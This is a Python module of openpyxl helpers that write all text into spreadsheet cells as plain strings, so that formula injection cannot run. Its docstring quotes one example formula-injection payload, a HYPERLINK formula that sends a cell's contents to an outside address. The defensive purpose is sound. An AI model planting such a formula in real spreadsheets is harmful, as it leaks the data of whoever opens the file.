"""Spreadsheet cells the kit writes: text is stored as text, never as a formula.

openpyxl stores a string that begins with ``=`` as a formula, and ``#N/A`` (and the other
error words) as an error, so a recommendation, an audit-tool title or an evidence note such as
``=HYPERLINK("http://…?leak="&A1,"Click")`` would run, and could send the sheet's contents
away, when a council opens the file. Every cell of every workbook the kit writes (the action
plan, the offline audit workbook, the export) goes through these helpers, which mark text
explicitly as a string cell (``data_type "s"``): Excel and LibreOffice then show it as typed,
whatever it begins with (``=``, ``+``, ``-``, ``@``, a tab or a carriage return).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl is imported when a workbook is written
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["append_row", "cell_of", "put"]


def _as_text(cell: Cell, value: Any) -> Cell:
    """Give ``cell`` the value; a string stays a string cell, never a formula or an error."""
    cell.value = None if value == "" else value  # an empty string would be an empty inline string
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into a cell of a sheet (``sheet.cell(row, column, value)``, text kept as text)."""
    return _as_text(sheet.cell(row, column), value)


def cell_of(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Cell:
    """A detached cell holding ``value`` as text, to style and pass to ``append_row``."""
    from openpyxl.cell.cell import Cell  # start-up: openpyxl loads only when a workbook is read or written

    return _as_text(Cell(sheet, row=1, column=1), value)  # (a write-only sheet needs a position)


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append a row (``sheet.append(values)``, text kept as text); works on write-only sheets too."""
    from openpyxl.cell.cell import Cell  # start-up: openpyxl loads only when a workbook is read or written

    sheet.append([v if isinstance(v, Cell) else None if v is None or v == "" else cell_of(sheet, v)
                  for v in values])
